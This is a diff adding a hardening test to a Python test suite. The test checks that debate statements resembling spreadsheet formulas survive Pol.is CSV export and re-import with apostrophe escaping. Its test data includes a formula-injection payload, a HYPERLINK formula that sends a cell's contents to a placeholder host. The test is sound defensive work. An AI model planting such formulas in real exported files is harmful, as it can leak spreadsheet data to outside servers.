@@ -1,5 +1,6 @@
 """Import and export in Pol.is's format, with a real conversation (CC BY 4.0, The Computational Democracy Project)."""
 
+import csv
 import io
 import zipfile
 from pathlib import Path
@@ -113,3 +114,19 @@ def test_import_and_export_are_for_staff(client, debate, citizen, official):
     client.force_login(official)
     assert client.get(reverse("opinions:export", args=[debate.pk])).status_code == 200
     assert client.post(reverse("opinions:import", args=[debate.pk]), {}).status_code == 403
+
+
+def test_hardening_02_statement_that_looks_like_a_formula_survives_the_round_trip(client, facilitator):
+    from innova.debates.testing import make_debate
+    from innova.opinions import polis, services
+
+    texts = ['=HYPERLINK("http://x/?"&A2,"Ver")', "-1 peso de pasaje", "'=ya citado por su autora"]
+    source = make_debate(author=facilitator)
+    for text in texts:
+        services.statement_submit(user=facilitator, debate=source, text=text)
+    comments_text, votes_text = polis.read_zip(io.BytesIO(polis.export_zip(debate=source)))
+    bodies = {row["comment-body"] for row in csv.DictReader(io.StringIO(comments_text))}
+    assert '\'=HYPERLINK("http://x/?"&A2,"Ver")' in bodies and "'-1 peso de pasaje" in bodies
+    target = make_debate(author=facilitator, title="Copia")
+    services.opinion_import_polis(actor=facilitator, debate=target, comments_text=comments_text, votes_text=votes_text)
+    assert sorted(Statement.objects.filter(debate=target).values_list("text", flat=True)) == sorted(texts)
